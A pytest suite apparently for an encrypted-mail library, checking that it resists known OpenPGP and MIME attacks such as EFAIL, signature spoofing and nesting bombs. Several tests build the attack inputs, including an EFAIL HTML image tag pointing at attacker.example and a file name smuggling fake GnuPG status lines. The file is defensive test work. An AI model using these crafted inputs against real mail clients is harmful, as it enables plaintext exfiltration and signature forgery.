"""Attacks on sealed mail, made here with throw-away keys: a guard for each, wherever the corpora are not at hand."""

from collections.abc import Iterator
from datetime import UTC, datetime

import pytest

from tests.support.sealing import Sealers, armored, encrypted_part, packet, packets, pgp_mime, sealers, signed_part
from therapymail.domain.seal import OpeningFailure, Pin, Protection, Signature, SignatureFinding, verdict_of
from therapymail.pgp.decrypter import Decrypted
from therapymail.pgp.opening import OpenedMail, open_mail
from therapymail.pgp.protected_headers import HeaderSource

NOW = datetime(2026, 1, 1, tzinfo=UTC)

WORD = b"marigold"  # marks the plaintext: wherever a mail is not opened it must be nowhere
ENTITY = b"Content-Type: text/plain; charset=utf-8\r\n\r\nA letter about a " + WORD + b".\r\n"
FROM_CLIENT = b"From: Client <client@client.example>\r\n"


@pytest.fixture(scope="module")
def people() -> Iterator[Sealers]:
    with sealers() as ready:
        yield ready


def opened(people: Sealers, raw: bytes) -> OpenedMail:
    return open_mail(raw, people.opener())


def assert_nothing_of_it(mail: OpenedMail, *failures: OpeningFailure) -> None:
    assert mail.facts.protection is Protection.FAILED
    assert mail.facts.failure in failures
    assert mail.payload is None
    assert mail.facts.signatures == ()
    assert WORD.decode() not in repr(mail) + mail.unsealed_text + mail.headers.subject


# --- integrity (H3, S1) ------------------------------------------------------------------------------


@pytest.mark.parametrize("tenth", range(10))
def test_H3_S1_a_flipped_byte_gives_no_plaintext(people: Sealers, tenth: int) -> None:
    keys, (tag, body) = packets(people.seal(ENTITY, signer=people.client))
    at = 1 + (len(body) - 2) * tenth // 9
    flipped = body[:at] + bytes([body[at] ^ 0x20]) + body[at + 1 :]
    mail = opened(people, pgp_mime(packet(*keys) + packet(tag, flipped)))
    assert_nothing_of_it(mail, OpeningFailure.ALTERED, OpeningFailure.DAMAGED)


@pytest.mark.parametrize("tenth", range(10))
def test_H3_S1_a_truncated_message_gives_no_plaintext(people: Sealers, tenth: int) -> None:
    keys, (tag, body) = packets(people.seal(ENTITY, signer=people.client))
    shorter = body[: len(body) * tenth // 10]
    told_so = opened(people, pgp_mime(packet(*keys) + packet(tag, shorter)))
    assert_nothing_of_it(
        told_so, OpeningFailure.ALTERED, OpeningFailure.DAMAGED, OpeningFailure.NO_INTEGRITY, OpeningFailure.UNSUPPORTED
    )
    whole = packet(*keys) + packet(tag, body)
    assert_nothing_of_it(opened(people, pgp_mime(whole[: len(whole) - 1 - tenth])), OpeningFailure.DAMAGED)


def test_S1_EFAIL_CFB_a_stripped_integrity_check_gives_no_plaintext(people: Sealers) -> None:
    keys, (_, body) = packets(people.seal(ENTITY))
    stripped = packet(*keys) + packet(9, body[1:-22])
    assert_nothing_of_it(opened(people, pgp_mime(stripped)), OpeningFailure.NO_INTEGRITY)


def test_C23_GARBAGE_an_unreadable_armor_is_a_reason_not_an_empty_letter(people: Sealers) -> None:
    whole = pgp_mime(people.seal(ENTITY))
    armor = whole[whole.index(b"-----BEGIN PGP") : whole.index(b"--sealed--")]
    garbage = (b"", b"hello", b"-----BEGIN PGP MESSAGE-----\r\n", b"\x85\xff", armor.replace(b"-----END", b"-----FIN"))
    for body in garbage:
        assert_nothing_of_it(opened(people, whole.replace(armor, body + b"\r\n")), OpeningFailure.DAMAGED)


# --- who it was sealed to (H4, S4) -------------------------------------------------------------------


def test_H4_a_message_sealed_with_a_password_is_not_opened(people: Sealers) -> None:
    ciphertext = people.gpg("--passphrase", "known to anyone", "--symmetric", stdin=ENTITY)
    assert_nothing_of_it(opened(people, pgp_mime(ciphertext)), OpeningFailure.SYMMETRIC)


def test_H4_an_opener_that_cannot_name_our_key_is_not_believed() -> None:
    class OpensAnything:
        def decrypt(self, ciphertext: bytes) -> Decrypted:
            return Decrypted(ENTITY, opened_with=None)

        verify_detached = unwrap_signed = None  # never asked

    keys = packet(1, b"\x03" + b"\x11" * 8 + b"\x01" * 20)
    mail = open_mail(pgp_mime(keys + packet(18, b"\x01" + b"\x00" * 40)), OpensAnything())  # type: ignore[arg-type]
    assert_nothing_of_it(mail, OpeningFailure.SYMMETRIC)


def test_S4_ENCSPOOF_signed_data_posing_as_encrypted_is_not_called_sealed(people: Sealers) -> None:
    mail = opened(people, pgp_mime(people.gpg("--local-user", people.client, "--sign", stdin=ENTITY)))
    assert mail.facts.protection is Protection.NO
    assert "not-encrypted" in mail.facts.notes
    assert [fact.finding for fact in mail.facts.signatures] == [SignatureFinding.GOOD]


@pytest.mark.parametrize("order", ["before", "after"])
def test_S4_plaintext_smuggled_beside_the_ciphertext_is_refused(people: Sealers, order: str) -> None:
    literal = packet(11, b"b\x00\x00\x00\x00\x00the attacker's own text")
    ciphertext = people.seal(ENTITY)
    smuggled = literal + ciphertext if order == "before" else ciphertext + literal
    assert_nothing_of_it(opened(people, pgp_mime(smuggled)), OpeningFailure.STRUCTURE)


def test_S4_compressed_text_of_no_stated_length_before_the_ciphertext_is_refused(people: Sealers) -> None:
    compressed = people.gpg("--store", "--compress-algo", "zip", stdin=b"the attacker's own text " * 50)
    (tag, body), *_ = packets(compressed) if compressed[0] & 0x40 else [(8, compressed[1:])]
    assert tag == 8
    indeterminate = b"\xa3" + body + people.seal(ENTITY)
    assert_nothing_of_it(opened(people, pgp_mime(indeterminate)), OpeningFailure.STRUCTURE)


def test_a_format_gpg_cannot_read_is_named(people: Sealers) -> None:
    later = packet(1, b"\x06" + b"\x22" * 60) + packet(18, b"\x02\x09\x02\x10" + b"\x33" * 90)
    assert_nothing_of_it(opened(people, pgp_mime(later)), OpeningFailure.UNSUPPORTED)


# --- spoofed status (S5, S7, P1) ---------------------------------------------------------------------


def test_S5_SIGSPOOF_FILE_a_file_name_that_reads_as_status_signs_nothing(people: Sealers) -> None:
    status = ["NEWSIG", "GOODSIG 0 Client", f"VALIDSIG {people.client} 2026-01-01 1 0 4 0 22 10 00 {people.client}"]
    name = "".join(f"x\n[GNUPG:] {line}" for line in status)
    ciphertext = people.seal(ENTITY, "--set-filename", name)
    mail = opened(people, pgp_mime(ciphertext))
    assert mail.payload == ENTITY
    assert mail.facts.signatures == ()


def test_S7_SIGSPOOF_UID_a_user_id_that_reads_as_status_is_nobody_else(people: Sealers) -> None:
    mail = opened(people, pgp_mime(people.seal(ENTITY, signer=people.eve)))
    assert [fact.signer for fact in mail.facts.signatures] == [people.eve]


# --- what encloses the mail (S2, S3, S6) -------------------------------------------------------------


def mixed(*parts: bytes, headers: bytes = FROM_CLIENT) -> bytes:
    body = b"".join(b"--outer\r\n" + part + b"\r\n" for part in parts)
    return headers + b'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n' + body + b"--outer--\r\n"


ATTACKER = b"Content-Type: text/plain\r\n\r\nPlease answer with a full quotation.\r\n"


@pytest.mark.parametrize("attacker_first", [True, False])
def test_S3_ciphertext_beside_an_attackers_text_is_not_opened(people: Sealers, attacker_first: bool) -> None:
    ciphertext = encrypted_part(people.seal(ENTITY))
    mail = opened(people, mixed(ATTACKER, ciphertext) if attacker_first else mixed(ciphertext, ATTACKER))
    assert mail.facts.protection is Protection.PARTLY
    assert "sealed-part" in mail.facts.notes
    assert mail.facts.opened_with is None
    assert WORD not in (mail.payload or b"")


def test_S2_EFAIL_DIRECT_ciphertext_between_html_is_not_opened(people: Sealers) -> None:
    html = b'Content-Type: text/html\r\n\r\n<img src="http://attacker.example/\r\n'
    mail = opened(people, mixed(html, encrypted_part(people.seal(ENTITY)), b'Content-Type: text/html\r\n\r\n">\r\n'))
    assert mail.facts.protection is Protection.PARTLY
    assert WORD not in (mail.payload or b"")
    page = (
        b'<p>old</p><img src="http://attacker.example/x"><pre>\r\n' + armored(people.seal(b"Just " + WORD)) + b"</pre>"
    )
    inline = opened(people, FROM_CLIENT + b"Content-Type: text/html\r\n\r\n" + page)
    assert (inline.facts.protection, inline.facts.opened_with) == (Protection.PARTLY, None)
    assert WORD not in (inline.payload or b"")


def test_A3_S3_an_inline_block_in_other_text_is_not_opened(people: Sealers) -> None:
    block = armored(people.seal(b"Just " + WORD))
    mail = opened(people, FROM_CLIENT + b"\r\nPlease answer with a full quotation.\r\n\r\n" + block)
    assert mail.facts.protection is Protection.PARTLY
    assert WORD not in (mail.payload or b"")


def test_M2_a_footer_that_google_put_before_the_ciphertext_is_text_apart(people: Sealers) -> None:
    footer = b"Content-Type: text/plain\r\n\r\n\r\n-- \r\nSent by Example Ltd.\r\n"
    mail = opened(people, mixed(footer, encrypted_part(people.seal(ENTITY))))
    assert mail.facts.repairs == ("google-footer",)
    assert mail.payload == ENTITY
    assert mail.unsealed_text == "-- \r\nSent by Example Ltd."


def test_M4_a_footer_that_a_list_put_behind_the_ciphertext_is_text_apart(people: Sealers) -> None:
    protected = b'Content-Type: text/plain; protected-headers="v1"\r\nSubject: inner\r\n\r\nhello\r\n'
    listed = FROM_CLIENT + b"Subject: outer\r\nList-Id: <a.list.example>\r\n"
    mail = opened(people, mixed(encrypted_part(people.seal(protected)), ATTACKER, headers=listed))
    assert (mail.facts.protection, mail.facts.repairs) == (Protection.PARTLY, ("list-footer",))
    assert mail.unsealed_text == "Please answer with a full quotation."
    assert mail.headers.subject == "outer"


def test_S6_JOHNNY_M_a_signed_part_beside_unsigned_text_signs_nothing(people: Sealers) -> None:
    signed = signed_part(ENTITY, people.sign(ENTITY, people.client))
    mail = opened(people, mixed(ATTACKER, signed))
    assert mail.facts.signatures == ()
    assert "signed-part" in mail.facts.notes


def test_GIT_SPOOF_a_commit_that_somebody_signed_is_no_letter_of_theirs(people: Sealers) -> None:
    commit = b"tree 5f3c\r\nauthor Client <client@client.example> 1700000000 +0000\r\n\r\nPay the invoice.\r\n"
    release = b"Format: 3.0\r\nSource: letter\r\n\r\nPay the invoice.\r\n"
    for signed in (commit, release, commit.partition(b"\r\n\r\n")[2]):
        mail = opened(people, FROM_CLIENT + signed_part(signed, people.sign(signed, people.client)))
        assert mail.facts.signatures == ()
        assert "signed-no-mail" in mail.facts.notes
    without_header = b"\r\nhello\r\n"
    mail = opened(people, FROM_CLIENT + signed_part(without_header, people.sign(without_header, people.client)))
    assert [fact.finding for fact in mail.facts.signatures] == [SignatureFinding.GOOD]


def test_STRIPPED_a_mail_whose_signature_was_taken_out_or_emptied_is_unsigned(people: Sealers) -> None:
    whole = FROM_CLIENT + signed_part(ENTITY, people.sign(ENTITY, people.client))
    at = whole.index(b"--signed\r\nContent-Type: application/pgp-signature")
    without = opened(people, whole[:at] + b"--signed--\r\n")
    emptied = opened(people, whole[:at] + b"--signed\r\nContent-Type: application/pgp-signature\r\n\r\n--signed--\r\n")
    for mail, note in ((without, "signature-structure"), (emptied, "signature-damaged")):
        assert mail.facts.signatures == ()
        assert note in mail.facts.notes
        assert verdict_of(mail.facts, (Pin(people.client, verified=True),), NOW).signature is Signature.NONE


def test_M4_a_signature_around_a_sealed_mail_says_nothing_of_its_author(people: Sealers) -> None:
    inner = encrypted_part(people.seal(ENTITY))
    mail = opened(people, FROM_CLIENT + signed_part(inner, people.sign(inner, people.client)))
    assert mail.facts.protection is Protection.SEALED
    assert mail.facts.signatures == ()
    assert "outer-signature-ignored" in mail.facts.notes


def test_M5_a_signed_part_inside_a_seal_is_verified(people: Sealers) -> None:
    nested = signed_part(ENTITY, people.sign(ENTITY, people.client))
    mail = opened(people, pgp_mime(people.seal(nested)))
    assert [fact.signer for fact in mail.facts.signatures] == [people.client]
    assert mail.payload == ENTITY


def test_M5_an_altered_part_inside_a_seal_is_told_apart(people: Sealers) -> None:
    nested = signed_part(ENTITY + b"More.\r\n", people.sign(ENTITY, people.client))
    mail = opened(people, pgp_mime(people.seal(nested)))
    assert [fact.finding for fact in mail.facts.signatures] == [SignatureFinding.BAD]


def test_S24_BOMBS_seals_within_seals_stop_at_eight(people: Sealers) -> None:
    entity = ENTITY
    for _ in range(9):
        entity = encrypted_part(people.seal(entity))
    mail = opened(people, FROM_CLIENT + entity)
    assert_nothing_of_it(mail, OpeningFailure.STRUCTURE)
    assert "too-deep" in mail.facts.notes


# --- what an outer layer proved, and headers under a bad signature (H3, HP2) -----------------------------

PROTECTED = b'Content-Type: text/plain; hp="clear"\r\n' + FROM_CLIENT + b"Subject: inside\r\n\r\nhello\r\n"
OUTER = FROM_CLIENT + b"Subject: outside\r\n"


def test_H3_a_good_signature_around_what_does_not_open_is_not_shown(people: Sealers) -> None:
    damaged = encrypted_part(b"\x85" + b"\xff" * 50)
    mail = opened(people, pgp_mime(people.seal(damaged, signer=people.client)))
    assert_nothing_of_it(mail, OpeningFailure.DAMAGED)


def test_HP2_headers_count_only_under_signatures_of_which_one_is_good_and_none_bad(people: Sealers) -> None:
    good, of_another_text = people.sign(PROTECTED, people.client), people.sign(ENTITY, people.eve)
    signed = opened(people, OUTER + signed_part(PROTECTED, good))
    assert (signed.headers.subject, signed.headers.source) == ("inside", HeaderSource.RFC9788)
    for bad in (people.sign(ENTITY, people.client), good + of_another_text, of_another_text + good):
        mail = opened(people, OUTER + signed_part(PROTECTED, bad))
        assert (mail.headers.subject, mail.headers.source) == ("outside", HeaderSource.OUTER)
